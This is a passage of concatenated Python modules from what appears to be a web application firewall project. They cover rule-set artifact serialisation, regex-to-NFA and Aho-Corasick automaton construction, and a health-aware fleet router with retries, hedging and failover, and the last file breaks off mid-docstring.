        selector_is_regex=d["selector_is_regex"])


def _audit_stamp() -> dict:
    """The waf-audit stamp baked into every artifact: ok flag, report
    digest, waf-sched schedule digest and diagnostic counts from a
    (process-cached) quick audit of the kernel family + concurrency
    protocols + BASS kernel schedules. Imported lazily — the
    audit package traces kernels and must not load at artifact-module
    import time (and analysis.audit itself never imports this module,
    keeping the dependency one-way)."""
    from ..analysis.audit import audit_stamp

    return audit_stamp()


def serialize(cs: CompiledRuleSet) -> bytes:
    manifest = {
        "format_version": FORMAT_VERSION,
        "audit": _audit_stamp(),
        "stats": cs.stats,
        "gate": {str(k): v for k, v in cs.gate.items()},
        "fully_exact": sorted(cs.fully_exact),
        "always_candidates": cs.always_candidates,
        "static_resolved": sorted(cs.static_resolved),
        "fast_allow_safe": cs.fast_allow_safe,
        "residual_request": list(cs.residual_request),
        "residual_response": list(cs.residual_response),
        "fast_allow_blockers": list(cs.fast_allow_blockers),
        "residual_args": {str(k): v for k, v in cs.residual_args.items()},
        "host_reasons": {str(k): v for k, v in cs.host_reasons.items()},
        "matchers": [
            {
                "mid": m.mid, "rule_id": m.rule_id,
                "link_index": m.link_index,
                "transforms": list(m.transforms),
                "variables": [_var_to_json(v) for v in m.variables],
                "exact": m.exact, "operator_name": m.operator_name,
                "pattern": m.dfa.pattern,
                "start": m.dfa.start, "accept": m.dfa.accept,
                "factors": list(m.factors) if m.factors else None,
            }
            for m in cs.matchers
        ],
    }
    buf = io.BytesIO()

    def entry(name: str) -> zipfile.ZipInfo:
        # fixed timestamp: within one process/zlib build the payload
        # bytes are reproducible. Cross-node digest equality does NOT
        # rely on byte equality — digest() hashes the canonical entry
        # CONTENTS, so DEFLATE (whose output varies across zlib builds)
        # stays usable for the wire/cache bytes; CRS-scale DFA tables
        # compress 10-50x and ship to every data-plane poller.
        zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        return zi

    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(entry("manifest.json"),
                    json.dumps(manifest, sort_keys=True))
        zf.writestr(entry("seclang.txt"), cs.text)
        for m in cs.matchers:
            for name, arr in (("table", m.dfa.table),
                              ("classes", m.dfa.classes)):
                b = io.BytesIO()
                np.save(b, arr, allow_pickle=False)
                zf.writestr(entry(f"m{m.mid}.{name}.npy"), b.getvalue())
    return buf.getvalue()


def digest(payload: bytes) -> str:
    """Content digest over the canonical (name, bytes) entries.

    Hashing the decompressed entry contents — not the zip bytes — keeps
    the digest independent of the zlib build/level that produced the
    DEFLATE stream, so identical rulesets get identical digests on
    heterogeneous nodes while the payload itself stays compressed.

    Truncated/corrupted payloads yield a ``corrupt:``-prefixed sentinel
    instead of raising, so verify sites that compare digests on received
    bytes observe a mismatch rather than a crash (no well-formed
    artifact's digest ever carries the prefix — those are bare hex)."""
    h = hashlib.sha256()
    try:
        with zipfile.ZipFile(io.BytesIO(payload)) as zf:
            for name in sorted(zf.namelist()):
                data = zf.read(name)
                h.update(name.encode("utf-8"))
                h.update(b"\x00")
                h.update(len(data).to_bytes(8, "little"))
                h.update(data)
    except (zipfile.BadZipFile, zlib.error, EOFError, OSError):
        return "corrupt:" + hashlib.sha256(payload).hexdigest()
    return h.hexdigest()


def deserialize(payload: bytes) -> CompiledRuleSet:
    from ..seclang import parse

    with zipfile.ZipFile(io.BytesIO(payload)) as zf:
        manifest = json.loads(zf.read("manifest.json"))
        if manifest["format_version"] != FORMAT_VERSION:
            raise ValueError(
                f"artifact format {manifest['format_version']} not supported")
        # v5: refuse artifacts built without a clean waf-audit — a dirty
        # builder could ship kernels with host callbacks or protocol
        # breaches; pollers catch this ValueError and fall back to
        # fetching + compiling the ruleset text locally.
        stamp = manifest.get("audit")
        if not isinstance(stamp, dict) or not stamp.get("ok"):
            raise ValueError(
                "artifact was built without a clean waf-audit "
                f"(stamp: {stamp!r}); refusing to load")
        text = zf.read("seclang.txt").decode("utf-8")
        cs = CompiledRuleSet(ast=parse(text), text=text)
        cs.stats = manifest["stats"]
        cs.gate = {int(k): v for k, v in manifest["gate"].items()}
        cs.fully_exact = set(manifest["fully_exact"])
        cs.always_candidates = manifest["always_candidates"]
        cs.static_resolved = frozenset(manifest["static_resolved"])
        cs.fast_allow_safe = manifest["fast_allow_safe"]
        cs.residual_request = tuple(manifest["residual_request"])
        cs.residual_response = tuple(manifest["residual_response"])
        cs.fast_allow_blockers = tuple(manifest["fast_allow_blockers"])
        cs.residual_args = {int(k): v for k, v
                            in manifest["residual_args"].items()}
        cs.host_reasons = {int(k): v for k, v
                           in manifest["host_reasons"].items()}
        for md in manifest["matchers"]:
            table = np.load(io.BytesIO(zf.read(f"m{md['mid']}.table.npy")),
                            allow_pickle=False)
            classes = np.load(
                io.BytesIO(zf.read(f"m{md['mid']}.classes.npy")),
                allow_pickle=False)
            dfa = DFA(table=table, classes=classes, start=md["start"],
                      accept=md["accept"], pattern=md["pattern"])
            cs.matchers.append(Matcher(
                mid=md["mid"], rule_id=md["rule_id"],
                link_index=md["link_index"], dfa=dfa,
                transforms=tuple(md["transforms"]),
                variables=tuple(_var_from_json(v) for v in md["variables"]),
                exact=md["exact"], operator_name=md["operator_name"],
                factors=tuple(md["factors"]) if md.get("factors")
                else None))
    return cs


def compile_to_artifact(text: str) -> tuple[bytes, str]:
    """SecLang text -> (artifact bytes, content digest)."""
    payload = serialize(compile_ruleset(text))
    return payload, digest(payload)
