"""Thompson NFA over a 258-symbol alphabet.

Symbols 0..255 are bytes; 256 = BOS, 257 = EOS. Anchors consume the virtual
BOS/EOS symbols, which the runtime feeds as the first/last scan step. Search
(unanchored) semantics come from a self-loop on the start state over all
bytes and BOS; the accept state is absorbing, so "matched anywhere" is a
single end-of-scan state check — this is what makes the device scan a pure
carried-state recurrence with no per-position accept reduction.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .rx import Alt, Assert, Caret, Concat, Dollar, Dot, Lit, Node, \
    Repeat, UnsupportedRegex, parse_regex

BOS = 256
EOS = 257
N_SYMBOLS = 258

_ALL_BYTES = frozenset(range(256))
MAX_NFA_STATES = 20_000


@dataclass
class NFA:
    """States are ints; transitions: state -> list[(symbol_set, state)];
    eps: state -> list[state]; asserts: state -> list[(kind, state)] —
    context-conditional epsilon edges for \\b/\\B, passable depending on
    the wordness of the previous and next consumed symbols."""

    n_states: int = 0
    trans: list[list[tuple[frozenset[int], int]]] = field(default_factory=list)
    eps: list[list[int]] = field(default_factory=list)
    asserts: list[list[tuple[str, int]]] = field(default_factory=list)
    start: int = 0
    accept: int = 0

    def new_state(self) -> int:
        if self.n_states >= MAX_NFA_STATES:
            raise UnsupportedRegex("NFA too large")
        self.trans.append([])
        self.eps.append([])
        self.asserts.append([])
        self.n_states += 1
        return self.n_states - 1

    def add(self, frm: int, syms: frozenset[int], to: int) -> None:
        self.trans[frm].append((syms, to))

    def add_eps(self, frm: int, to: int) -> None:
        self.eps[frm].append(to)

    def add_assert(self, frm: int, kind: str, to: int) -> None:
        self.asserts[frm].append((kind, to))

    @property
    def has_asserts(self) -> bool:
        return any(self.asserts)


def _build(nfa: NFA, node: Node, entry: int) -> int:
    """Wire `node` starting at `entry`; return its exit state."""
    if isinstance(node, Lit):
        if not node.bytes_:
            raise UnsupportedRegex("empty character class")
        out = nfa.new_state()
        nfa.add(entry, node.bytes_, out)
        return out
    if isinstance(node, Dot):
        out = nfa.new_state()
        nfa.add(entry, _ALL_BYTES, out)
        return out
    if isinstance(node, Caret):
        out = nfa.new_state()
        nfa.add(entry, frozenset({BOS}), out)
        return out
    if isinstance(node, Dollar):
        out = nfa.new_state()
        nfa.add(entry, frozenset({EOS}), out)
        return out
    if isinstance(node, Assert):
        out = nfa.new_state()
        nfa.add_assert(entry, node.kind, out)
        return out
    if isinstance(node, Concat):
        cur = entry
        for part in node.parts:
            cur = _build(nfa, part, cur)
        return cur
    if isinstance(node, Alt):
        out = nfa.new_state()
        for opt in node.options:
            o_entry = nfa.new_state()
            nfa.add_eps(entry, o_entry)
            o_exit = _build(nfa, opt, o_entry)
            nfa.add_eps(o_exit, out)
        return out
    if isinstance(node, Repeat):
        cur = entry
        for _ in range(node.lo):
            cur = _build(nfa, node.child, cur)
        if node.hi is None:
            # star on the remainder: loop state
            loop_in = nfa.new_state()
            nfa.add_eps(cur, loop_in)
            loop_out = _build(nfa, node.child, loop_in)
            nfa.add_eps(loop_out, loop_in)
            out = nfa.new_state()
            nfa.add_eps(loop_in, out)
            return out
        # bounded optional copies
        ends = [cur]
        for _ in range(node.hi - node.lo):
            cur = _build(nfa, node.child, cur)
            ends.append(cur)
        out = nfa.new_state()
        for e in ends:
            nfa.add_eps(e, out)
        return out
    raise UnsupportedRegex(f"unknown node {type(node).__name__}")


def regex_to_nfa(pattern: str, ignorecase: bool = False) -> NFA:
    """Full search NFA: unanchored prefix loop + pattern + absorbing accept."""
    tree = parse_regex(pattern, ignorecase)
    nfa = NFA()
    start = nfa.new_state()
    nfa.start = start
    # unanchored search: consume any prefix (bytes and the BOS marker)
    nfa.add(start, _ALL_BYTES | frozenset({BOS}), start)
    p_entry = nfa.new_state()
    nfa.add_eps(start, p_entry)
    p_exit = _build(nfa, tree, p_entry)
    accept = nfa.new_state()
    nfa.add_eps(p_exit, accept)
    # absorbing accept: once matched, stay matched through EOS
    nfa.add(accept, _ALL_BYTES | frozenset({BOS, EOS}), accept)
    nfa.accept = accept
    return nfa
