"""Aho-Corasick automaton in the shared device table format.

Used for ``@pm`` phrase lists (case-insensitive, per SecLang) and for the
literal prefilter stage. The goto/fail construction is flattened into a
dense next-state table, then byte-class-compressed; the accept is a single
absorbing state ("any phrase seen"), matching the device scan contract of
dfa.py. Phrase identity (for MATCHED_VAR/logdata) is recovered on the host
for the rare matched requests.
"""

from __future__ import annotations

from collections import deque

import numpy as np

from .dfa import DFA
from .nfa import BOS, EOS, N_SYMBOLS


def build_aho_corasick(phrases: list[str | bytes],
                       case_insensitive: bool = True,
                       pattern: str = "") -> DFA:
    pats: list[bytes] = []
    for p in phrases:
        b = p.encode("latin-1") if isinstance(p, str) else p
        if case_insensitive:
            b = bytes(c + 32 if 0x41 <= c <= 0x5A else c for c in b)
        if b:
            pats.append(b)
    if not pats:
        raise ValueError("empty phrase list")

    # trie
    goto: list[dict[int, int]] = [{}]
    terminal: list[bool] = [False]
    for pat in pats:
        cur = 0
        for byte in pat:
            nxt = goto[cur].get(byte)
            if nxt is None:
                goto.append({})
                terminal.append(False)
                nxt = len(goto) - 1
                goto[cur][byte] = nxt
            cur = nxt
        terminal[cur] = True

    n = len(goto)
    fail = [0] * n
    # BFS fail links; propagate terminal through fail chains
    q: deque[int] = deque()
    for byte, nxt in goto[0].items():
        q.append(nxt)
    while q:
        cur = q.popleft()
        for byte, nxt in goto[cur].items():
            q.append(nxt)
            f = fail[cur]
            while f and byte not in goto[f]:
                f = fail[f]
            fail[nxt] = goto[f].get(byte, 0)
            if fail[nxt] == nxt:
                fail[nxt] = 0
            terminal[nxt] = terminal[nxt] or terminal[fail[nxt]]

    # dense delta over bytes (classic AC -> DFA flattening). First the raw
    # trie-state delta (BFS order so fail-state rows are already filled),
    # then collapse terminal targets into one absorbing ACCEPT state.
    ACCEPT = n
    raw = np.zeros((n, 256), dtype=np.int32)
    order: list[int] = [0]
    seen = {0}
    qi = 0
    while qi < len(order):
        cur = order[qi]
        qi += 1
        for nxt in goto[cur].values():
            if nxt not in seen:
                seen.add(nxt)
                order.append(nxt)
    for cur in order:
        for byte in range(256):
            if byte in goto[cur]:
                raw[cur, byte] = goto[cur][byte]
            elif cur == 0:
                raw[cur, byte] = 0
            else:
                raw[cur, byte] = raw[fail[cur], byte]

    delta = np.zeros((n + 1, 256), dtype=np.int32)
    term = np.asarray(terminal, dtype=bool)
    delta[:n, :] = np.where(term[raw], ACCEPT, raw)
    delta[ACCEPT, :] = ACCEPT

    # case-insensitive: uppercase bytes behave as lowercase
    if case_insensitive:
        for b in range(0x41, 0x5B):
            delta[:, b] = delta[:, b + 32]

    # full 258-symbol table: BOS/EOS are no-ops (self transitions per state
    # would be wrong — they must keep the current state, i.e. identity col)
    classes = np.zeros(N_SYMBOLS, dtype=np.int32)
    # compress byte columns into classes
    col_sig: dict[bytes, int] = {}
    for byte in range(256):
        key = delta[:, byte].tobytes()
        if key not in col_sig:
            col_sig[key] = len(col_sig)
        classes[byte] = col_sig[key]
    n_byte_classes = len(col_sig)
    # identity column for BOS/EOS
    ident = np.arange(n + 1, dtype=np.int32)
    ident_key = ident.tobytes()
    if ident_key in col_sig:
        ident_cls = col_sig[ident_key]
        n_classes = n_byte_classes
    else:
        ident_cls = n_byte_classes
        n_classes = n_byte_classes + 1
    classes[BOS] = ident_cls
    classes[EOS] = ident_cls

    table = np.zeros((n + 1, n_classes), dtype=np.int32)
    for key, cls in col_sig.items():
        table[:, cls] = np.frombuffer(key, dtype=np.int32)
    if ident_cls == n_byte_classes:
        table[:, ident_cls] = ident

    return DFA(table=table, classes=classes, start=0, accept=ACCEPT,
               pattern=pattern or f"@pm<{len(pats)} phrases>")
