"""Aho-Corasick automaton in the shared device table format.

Used for ``@pm`` phrase lists (case-insensitive, per SecLang) and for the
literal prefilter stage. The goto/fail construction is flattened into a
dense next-state table, then byte-class-compressed; the accept is a single
absorbing state ("any phrase seen"), matching the device scan contract of
dfa.py. Phrase identity (for MATCHED_VAR/logdata) is recovered on the host
for the rare matched requests.
"""

from __future__ import annotations

from collections import deque

import numpy as np

from .dfa import DFA
from .nfa import BOS, EOS, N_SYMBOLS


def build_ac_delta(pats: list[tuple[bytes, int]], case_insensitive: bool
                   ) -> tuple[np.ndarray, list[set[int]]]:
    """Shared AC construction: patterns (bytes, output_id) -> dense
    byte-transition table [n_states, 256] plus per-state output-id sets
    (fail-chain-propagated). Used by the absorbing-accept @pm tables below
    and the per-slot-mask union screen (screen.py)."""
    goto: list[dict[int, int]] = [{}]
    out: list[set[int]] = [set()]
    for pat, oid in pats:
        cur = 0
        for byte in pat:
            nxt = goto[cur].get(byte)
            if nxt is None:
                goto.append({})
                out.append(set())
                nxt = len(goto) - 1
                goto[cur][byte] = nxt
            cur = nxt
        out[cur].add(oid)

    n = len(goto)
    fail = [0] * n
    # BFS fail links; propagate outputs through fail chains
    q: deque[int] = deque(goto[0].values())
    while q:
        cur = q.popleft()
        for byte, nxt in goto[cur].items():
            q.append(nxt)
            f = fail[cur]
            while f and byte not in goto[f]:
                f = fail[f]
            fail[nxt] = goto[f].get(byte, 0)
            if fail[nxt] == nxt:
                fail[nxt] = 0
            out[nxt] |= out[fail[nxt]]

    # dense delta over bytes (BFS order so fail-state rows are filled first)
    raw = np.zeros((n, 256), dtype=np.int32)
    order: list[int] = [0]
    qi = 0
    while qi < len(order):
        cur = order[qi]
        qi += 1
        order.extend(goto[cur].values())
    for cur in order:
        for byte in range(256):
            if byte in goto[cur]:
                raw[cur, byte] = goto[cur][byte]
            elif cur == 0:
                raw[cur, byte] = 0
            else:
                raw[cur, byte] = raw[fail[cur], byte]
    if case_insensitive:
        for b in range(0x41, 0x5B):
            raw[:, b] = raw[:, b + 32]
    return raw, out


def build_aho_corasick(phrases: list[str | bytes],
                       case_insensitive: bool = True,
                       pattern: str = "") -> DFA:
    pats: list[tuple[bytes, int]] = []
    for p in phrases:
        b = p.encode("latin-1") if isinstance(p, str) else p
        if case_insensitive:
            b = bytes(c + 32 if 0x41 <= c <= 0x5A else c for c in b)
        if b:
            pats.append((b, 0))
    if not pats:
        raise ValueError("empty phrase list")

    raw, out = build_ac_delta(pats, case_insensitive)
    n = raw.shape[0]
    # collapse terminal targets into one absorbing ACCEPT state
    ACCEPT = n
    term = np.zeros(n, dtype=bool)
    for s, oids in enumerate(out):
        term[s] = bool(oids)
    delta = np.zeros((n + 1, 256), dtype=np.int32)
    delta[:n, :] = np.where(term[raw], ACCEPT, raw)
    delta[ACCEPT, :] = ACCEPT

    # full 258-symbol table: BOS/EOS are no-ops (self transitions per state
    # would be wrong — they must keep the current state, i.e. identity col)
    classes = np.zeros(N_SYMBOLS, dtype=np.int32)
    # compress byte columns into classes
    col_sig: dict[bytes, int] = {}
    for byte in range(256):
        key = delta[:, byte].tobytes()
        if key not in col_sig:
            col_sig[key] = len(col_sig)
        classes[byte] = col_sig[key]
    n_byte_classes = len(col_sig)
    # identity column for BOS/EOS
    ident = np.arange(n + 1, dtype=np.int32)
    ident_key = ident.tobytes()
    if ident_key in col_sig:
        ident_cls = col_sig[ident_key]
        n_classes = n_byte_classes
    else:
        ident_cls = n_byte_classes
        n_classes = n_byte_classes + 1
    classes[BOS] = ident_cls
    classes[EOS] = ident_cls

    table = np.zeros((n + 1, n_classes), dtype=np.int32)
    for key, cls in col_sig.items():
        table[:, cls] = np.frombuffer(key, dtype=np.int32)
    if ident_cls == n_byte_classes:
        table[:, ident_cls] = ident

    return DFA(table=table, classes=classes, start=0, accept=ACCEPT,
               pattern=pattern or f"@pm<{len(pats)} phrases>")
