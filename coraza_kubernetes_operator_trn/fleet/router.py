"""Health-aware tenant router: placement, retry/hedge/failover, streams.

One ``FleetRouter`` fronts a ``PodPool`` and presents the MicroBatcher
verdict surface (``inspect`` / ``stream_begin`` / ``stream_chunk`` /
``stream_end``) fleet-wide. Placement reuses ``parallel.placement`` at
pod scope: the same rendezvous hash that pins a tenant to a chip inside
the sharded engine pins it to a pod here, and ``candidates()`` gives the
full preference ladder — so a retry, a hedge, and a post-failover
re-placement all land on the SAME pod (the tenant's next candidate),
with no re-hash disagreement between the fast path and the epoch table.

Degradation ladder (never a hung future, never a dropped ledger entry):

1. **retry** — connect failures (dead/draining pod, injected pod-kill),
   failure-policy 503s (a shedding/draining pod answered, but with its
   policy verdict, not a real inspection) and dispatch timeouts retry
   against the tenant's next rendezvous candidate, bounded by
   ``WAF_FLEET_RETRIES`` with exponential backoff + seeded full jitter.
   Only idempotent work retries: buffered inspects and stream BEGINs.
   A stream's chunks are pinned to its pod (affinity) and never
   replayed elsewhere — a half-fed scan replayed against a fresh engine
   could double-count bytes.
2. **failover** — the health tracker's available set shrinks; the next
   dispatch notices and advances the placement epoch
   (``waf_fleet_failovers_total``, ``waf_fleet_placement_epoch``).
   Tenants re-place onto survivors via the same rendezvous ladder.
3. **whole-fleet degraded** — no pod available: the router itself
   synthesizes the tenant's failure-policy verdict and emits the
   request's single audit event (``at="fleet_degraded"``), exactly as
   one pod's admission path would.

Optional tail-latency hedging (``WAF_FLEET_HEDGE_MS`` > 0): when the
primary hasn't answered inside the hedge window, the SAME request is
issued to the backup candidate and the first verdict wins; the loser is
abandoned to its pod, which still resolves it (its ledger closes, its
audit event is emitted — hedges add attempts, never lose them).
"""

from __future__ import annotations

import logging
import random
import threading
import time
from concurrent.futures import FIRST_COMPLETED, ThreadPoolExecutor
from concurrent.futures import TimeoutError as FutureTimeoutError
from concurrent.futures import wait as futures_wait
from dataclasses import dataclass

from ..config import env as envcfg
from ..engine.reference import Verdict
from ..engine.transaction import HttpRequest, HttpResponse
from ..extproc.metrics import Metrics
from ..parallel.placement import Placer, candidates
from ..runtime.audit_events import AuditEventPipeline, build_event
from ..runtime.resilience import FaultInjector, InjectedFault
from .health import HealthTracker
from .pool import DEAD, PodPool, PodUnavailable

log = logging.getLogger("fleet-router")


@dataclass
class _StreamRef:
    """Router-side record of one open stream: the affinity pin plus
    enough context (tenant, request) to failure-policy-resolve the
    stream with its one audit event if its pod dies under it."""

    slot: int
    tenant: str
    request: HttpRequest
    verdict: Verdict | None = None  # set once a chunk resolved it early


class FleetRouter:
    def __init__(self, pool: PodPool, *,
                 health: HealthTracker | None = None,
                 metrics: Metrics | None = None,
                 retries: int | None = None,
                 retry_backoff_ms: float | None = None,
                 hedge_ms: float | None = None,
                 fault: FaultInjector | None = None,
                 seed: int = 0,
                 clock=time.monotonic,
                 sleep=time.sleep) -> None:
        self.pool = pool
        self.health = health or HealthTracker(pool, fault=fault,
                                              clock=clock)
        self.metrics = metrics or Metrics()
        if retries is None:
            retries = envcfg.get_int("WAF_FLEET_RETRIES")
        self.retries = max(0, retries)
        if retry_backoff_ms is None:
            retry_backoff_ms = envcfg.get_float("WAF_FLEET_RETRY_BACKOFF_MS")
        self.retry_backoff_s = max(0.0, retry_backoff_ms) / 1000.0
        if hedge_ms is None:
            hedge_ms = envcfg.get_float("WAF_FLEET_HEDGE_MS")
        self.hedge_s = max(0.0, hedge_ms) / 1000.0
        self.fault = fault
        self._clock = clock
        self._sleep = sleep
        self._rng = random.Random(f"{seed}:fleet-retry")
        self._rng_lock = threading.Lock()
        # pod-scope placement: same Placer the sharded engine uses at
        # chip scope; epoch 0 is pre-advance, the first replan publishes 1
        self.placer = Placer(len(pool.pods))
        self._placer_lock = threading.Lock()
        # stream affinity: sid -> _StreamRef (sids are uuid4 hex from the
        # owning batcher, unique fleet-wide by construction)
        self._affinity: dict[str, _StreamRef] = {}
        # streams resolved by the router after their pod died: served to
        # late chunk/end calls, popped at end (mirrors the batcher's
        # resolved-stream fast path)
        self._orphans: dict[str, Verdict] = {}
        self._streams_lock = threading.Lock()
        # router-synthesized audit events (orphans, whole-fleet degraded)
        self.events = AuditEventPipeline(clock=clock)
        # soak/test hook: called once per action that must produce
        # exactly one audit event somewhere in the fleet ("inspect" /
        # "stream_begin", the InvariantMonitor's ledger currency)
        self.attempt_hook = None
        # hedged + concurrent dispatches run caller code (pod.inspect)
        # off-thread; bounded, shared, shut down with the router
        self._executor = ThreadPoolExecutor(
            max_workers=max(4, 2 * len(pool.pods)),
            thread_name_prefix="fleet-dispatch")
        self.metrics.fleet_pods_provider = self.health.health_codes
        self._replan(failover=False)

    # -- lifecycle ---------------------------------------------------------
    def start(self) -> None:
        self.events.start()
        self.health.start()

    def stop(self) -> None:
        self.health.stop()
        self.pool.stop()
        self.events.stop()
        self._executor.shutdown(wait=False)

    # -- placement ---------------------------------------------------------
    def _replan(self, *, failover: bool) -> None:
        """Advance the placement epoch over the current healthy set.
        ``failover=True`` marks a health-driven re-placement (counted);
        tenant-set changes replan without the failover counter."""
        with self._placer_lock:
            healthy = self.health.available()
            table = self.placer.advance(
                sorted(self.pool.configured), healthy)
            self.metrics.set_fleet_epoch(table.epoch)
            if failover:
                self.metrics.record_fleet_failover()
            log.info("placement epoch %d over pods %s%s", table.epoch,
                     list(table.healthy),
                     " (failover)" if failover else "")

    def _maybe_replan(self) -> list[int]:
        """The failover trigger: any dispatch that sees the healthy set
        differ from the live table's advances the epoch first, so the
        table the fleet serves from is never stale w.r.t. health."""
        healthy = self.health.available()
        if tuple(healthy) != self.placer.table.healthy:
            self._replan(failover=True)
        return healthy

    def set_tenant(self, tenant: str, ruleset_text: str,
                   failure_policy: str | None = None) -> None:
        self.pool.set_tenant(tenant, ruleset_text,
                             failure_policy=failure_policy)
        self._replan(failover=False)

    def table(self):
        return self.placer.table

    # -- attempt accounting -------------------------------------------------
    def _note(self, kind: str) -> None:
        hook = self.attempt_hook
        if hook is not None:
            try:
                hook(kind)
            except Exception:
                pass

    # -- verdict classification ---------------------------------------------
    @staticmethod
    def _retryable_503(v: Verdict) -> bool:
        """A failure-POLICY verdict (shedding/draining pod), not a rule
        decision: status 503, no rule id (Verdict.rule_id defaults to
        0 — a real match always carries a nonzero id). Real rule
        verdicts — allow or block — are never retried."""
        return (not v.allowed and v.status == 503
                and not getattr(v, "rule_id", 0))

    # -- buffered inspection ladder ------------------------------------------
    def inspect(self, tenant: str, request: HttpRequest,
                response: HttpResponse | None = None,
                timeout: float = 30.0) -> Verdict:
        healthy = self._maybe_replan()
        if not healthy:
            return self._fleet_degraded(tenant, request)
        cands = candidates(tenant, healthy)
        max_attempts = min(len(cands), self.retries + 1)
        last_policy_v: Verdict | None = None
        for i in range(max_attempts):
            slot = cands[i]
            if i:
                self._backoff(i)
            # hedge only the primary attempt: a retry is already the
            # "second request", hedging it would square the fan-out
            backup = None
            if i == 0 and self.hedge_s > 0 and len(cands) > 1:
                backup = cands[1]
            try:
                v = self._dispatch(slot, tenant, request, response,
                                   timeout, backup)
            except (PodUnavailable, InjectedFault):
                self.health.report_failure(slot, "connect")
                self._count_retry(i, max_attempts, "connect")
                continue
            except FutureTimeoutError:
                self.health.report_failure(slot, "timeout")
                self._count_retry(i, max_attempts, "timeout")
                continue
            if self._retryable_503(v):
                self.health.report_failure(slot, "status")
                last_policy_v = v
                self._count_retry(i, max_attempts, "status")
                continue
            self.health.report_success(slot)
            return v
        # ladder exhausted: surface the last pod-issued policy verdict
        # (its pod already owns the ledger entry + audit event), or go
        # whole-fleet degraded when no pod even answered
        self._maybe_replan()
        if last_policy_v is not None:
            return last_policy_v
        return self._fleet_degraded(tenant, request)

    def _count_retry(self, i: int, max_attempts: int, reason: str) -> None:
        if i + 1 < max_attempts:
            self.metrics.record_fleet_retry(reason)

    def _backoff(self, attempt: int) -> None:
        if self.retry_backoff_s <= 0:
            return
        base = self.retry_backoff_s * (2 ** (attempt - 1))
        with self._rng_lock:
            # full jitter: uniform in [0, base] — decorrelates the
            # retry herd a pod death creates
            delay = self._rng.uniform(0.0, min(base, 0.5))
        if delay > 0:
            self._sleep(delay)

    def _dispatch(self, slot: int, tenant: str, request: HttpRequest,
                  response: HttpResponse | None, timeout: float,
                  backup: int | None) -> Verdict:
        """One pod-level attempt (plus its optional hedge). Uses the
        batcher's ``inspect`` path so every attempt that resolves emits
        its single audit event inside the pod — the router never has to
        reconstruct pod-side accounting."""
        pod = self.pool.pods[slot]
        pod.check_dispatch()
        if self.fault is not None:
            self.fault.check("pod-kill")   # raises InjectedFault
            self.fault.check("pod-wedge")  # stalls, then proceeds
        self._note("inspect")
        if backup is None:
            return pod.batcher.inspect(tenant, request, response,
                                       timeout=timeout)
        t0 = self._clock()
        primary = self._executor.submit(
            pod.batcher.inspect, tenant, request, response, timeout)
        try:
            return primary.result(timeout=self.hedge_s)
        except FutureTimeoutError:
            pass
        except Exception:
            raise
        # hedge window expired: fire the same request at the backup pod
        bpod = self.pool.pods[backup]
        try:
            bpod.check_dispatch()
        except PodUnavailable:
            return primary.result(
                timeout=max(0.0, timeout - (self._clock() - t0)))
        self._note("inspect")
        hedge = self._executor.submit(
            bpod.batcher.inspect, tenant, request, None, timeout)
        remaining = max(0.0, timeout - (self._clock() - t0))
        done, _ = futures_wait({primary, hedge}, timeout=remaining,
                               return_when=FIRST_COMPLETED)
        # first verdict wins; prefer the primary on a photo finish. The
        # loser keeps running on its pod (ledger + event close there).
        won = primary not in done
        self.metrics.record_fleet_hedge(won=won)
        if primary in done:
            return primary.result(timeout=0)
        if hedge in done:
            try:
                return hedge.result(timeout=0)
            except Exception:
                # hedge crashed; fall back to waiting out the primary
                return primary.result(
                    timeout=max(0.0, timeout - (self._clock() - t0)))
        raise FutureTimeoutError()

    # -- streaming (affinity-pinned, begin-only retry) -----------------------
    def stream_begin(self, tenant: str, request: HttpRequest
                     ) -> "tuple[str | None, Verdict | None]":
        healthy = self._maybe_replan()
        if not healthy:
            return None, self._fleet_degraded(tenant, request)
        cands = candidates(tenant, healthy)
        max_attempts = min(len(cands), self.retries + 1)
        last_v: Verdict | None = None
        for i in range(max_attempts):
            slot = cands[i]
            if i:
                self._backoff(i)
            pod = self.pool.pods[slot]
            try:
                pod.check_dispatch()
                if self.fault is not None:
                    self.fault.check("pod-kill")
                    self.fault.check("pod-wedge")
                self._note("stream_begin")
                sid, v = pod.batcher.stream_begin(tenant, request)
            except (PodUnavailable, InjectedFault):
                self.health.report_failure(slot, "connect")
                self._count_retry(i, max_attempts, "connect")
                continue
            if sid is not None:
                self.health.report_success(slot)
                with self._streams_lock:
                    self._affinity[sid] = _StreamRef(
                        slot=slot, tenant=tenant, request=request)
                return sid, None
            # begin shed (draining / stream cap): the pod emitted the
            # event; a policy 503 is worth one more candidate
            last_v = v
            if v is not None and self._retryable_503(v):
                self.health.report_failure(slot, "status")
                self._count_retry(i, max_attempts, "status")
                continue
            return None, v
        if last_v is not None:
            return None, last_v
        return None, self._fleet_degraded(tenant, request)

    def stream_chunk(self, sid: str, data: bytes) -> "Verdict | None":
        with self._streams_lock:
            ref = self._affinity.get(sid)
            orphan = self._orphans.get(sid)
        if ref is None:
            if orphan is not None:
                return orphan
            raise KeyError(sid)
        pod = self.pool.pods[ref.slot]
        try:
            v = pod.batcher.stream_chunk(sid, data)
        except KeyError:
            # a LIVE pod that no longer knows the stream terminalized
            # it already (TTL expiry, import refusal — its one event is
            # out): serve a verdict WITHOUT a second one. A DEAD pod
            # (kill racing this chunk, before kill_pod sweeps the
            # slot's orphans) never emitted: the event is the router's.
            dead = pod.state == DEAD
            return self._resolve_lost(sid, ref, emit=dead,
                                      at="pod_killed" if dead else "",
                                      pop=False)
        if v is not None:
            ref.verdict = v
        return v

    def stream_end(self, sid: str, response: HttpResponse | None = None,
                   timeout: float = 600.0) -> Verdict:
        with self._streams_lock:
            orphan = self._orphans.pop(sid, None)
            if orphan is not None:
                self._affinity.pop(sid, None)
                return orphan
            ref = self._affinity.pop(sid, None)
        if ref is None:
            raise KeyError(sid)
        pod = self.pool.pods[ref.slot]
        try:
            return pod.batcher.stream_end(sid, response, timeout)
        except KeyError:
            dead = pod.state == DEAD
            return self._resolve_lost(sid, ref, emit=dead,
                                      at="pod_killed" if dead else "",
                                      pop=True)

    def _resolve_lost(self, sid: str, ref: _StreamRef, *, emit: bool,
                      at: str, pop: bool) -> Verdict:
        """A pinned stream whose pod-side state is gone. If a chunk
        already resolved it, the pod emitted its one audit event at
        resolution — serve the stored verdict. Otherwise the stream
        terminates with the failure-policy verdict; ``emit`` says whose
        event it is: True when the pod never terminalized it (the
        router's event — kill_pod / handoff failure), False when the
